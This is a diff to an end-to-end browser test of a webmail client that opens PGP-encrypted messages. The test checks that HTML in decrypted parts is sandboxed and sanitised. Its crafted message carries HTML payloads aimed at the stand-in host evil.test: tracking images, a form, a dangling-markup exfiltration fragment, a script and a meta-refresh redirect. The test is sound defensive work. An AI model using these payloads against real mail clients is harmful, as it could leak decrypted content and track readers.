@@ -26,7 +26,9 @@ async function sealedFor(alice: PgpPerson, bob: PgpPerson, part: string): Promis
 }
 
 const SEALED = 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=s'
-const INSIDE = ['Content-Type: multipart/mixed; boundary=i', 'Subject: The true subject', '', '--i', 'Content-Type: text/html', '', '<p>Secret <b>words</b><img src="https://evil.test/leak"><script>document.title="ran"</script></p>', '--i', 'Content-Type: application/pdf; name=plan.pdf', 'Content-Disposition: attachment; filename=plan.pdf', '', 'the plan', '--i--', ''].join('\r\n')
+const INSIDE = ['Content-Type: multipart/mixed; boundary=i', 'Subject: The true subject', '', '--i', 'Content-Type: text/html', '', '<style>b{color:rgb(0, 128, 0)}</style><p>Secret <b>words</b><img src="https://evil.test/leak"><script>document.title="ran"</script><a href="https://evil.test/">a link</a><img alt="own" src="cid:pic@x"><form action="https://evil.test/"><img src="https://evil.test/?',
+  '--i', 'Content-Type: text/html', '', '<p>Of another part</p><img src="/api/leak"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '--i', 'Content-Type: image/gif; name=pic.gif', 'Content-ID: <pic@x>', 'Content-Transfer-Encoding: base64', '', 'R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', '--i', 'Content-Type: application/pdf; name=plan.pdf', 'Content-Disposition: attachment; filename=plan.pdf', '', 'the plan', '--i--', ''].join('\r\n')
 
 async function open(page: Page, subject: string): Promise<void> {
   await page.goto('mailboxes/INBOX')
@@ -66,10 +68,20 @@ test('an encrypted message is opened in the browser with a key that never leaves
   await panel.getByLabel('Keep the key open').selectOption('for 10 minutes')
   await submit.click()
   const opened = page.getByRole('region', { name: 'Open the encrypted message' })
-  await expect(opened).toContainText('Secret words')
   await expect(opened).toContainText('The true subject')
   await expect(opened).toContainText('Signed with a key of bob@example.test that you have not verified.')
-  await expect(opened.locator('img, iframe, script, b')).toHaveCount(0)
+  await expect(opened).toContainText('never fetched')
+  const frame = opened.locator('iframe').contentFrame()
+  const [one, two] = [frame.locator('iframe').nth(0).contentFrame(), frame.locator('iframe').nth(1).contentFrame()]
+  await expect(one.getByText('Secret words')).toBeVisible()
+  await expect(one.getByText('words', { exact: true })).toHaveCSS('color', 'rgb(0, 128, 0)')
+  await expect(one.locator('script, form, img[src]:not([src^="data:image/gif"])')).toHaveCount(0)
+  await expect.poll(() => one.getByAltText('own').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
+  await expect(one.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer')
+  await expect(one.getByText('Of another part'), 'each part is a document of its own').toHaveCount(0)
+  await expect(two.getByText('Of another part')).toBeVisible()
+  expect(await two.locator('body').evaluate(() => self.origin)).toBe('null')
+  await expect(opened.getByRole('link', { name: 'pic.gif' }), 'what is shown is no file beside').toHaveCount(0)
   const [download] = await Promise.all([page.waitForEvent('download'), opened.getByRole('link', { name: 'plan.pdf' }).click()])
   expect(await readFile(await download.path(), 'utf8')).toBe('the plan')
   expect(asked.filter((url) => !/\/(events|favicon)/.test(new URL(url).pathname))).toEqual([])
